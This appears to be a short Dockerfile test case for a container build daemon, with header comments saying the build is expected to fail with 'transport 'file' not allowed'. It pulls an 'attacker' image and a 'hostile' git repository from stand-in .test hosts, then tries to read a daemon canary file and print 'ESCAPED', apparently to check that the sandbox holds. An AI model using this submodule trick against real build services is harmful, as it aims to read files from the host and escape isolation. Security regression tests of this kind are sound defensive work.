# tries: a repository on the daemon's disk, as a submodule
# ends: Failed transport 'file' not allowed
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
ADD https://git.buildpools.test/hostile/submodule-file.git#main /a
RUN . /lib/hunt.sh; cat /a/module/daemon-canary; echo "ESCAPED"
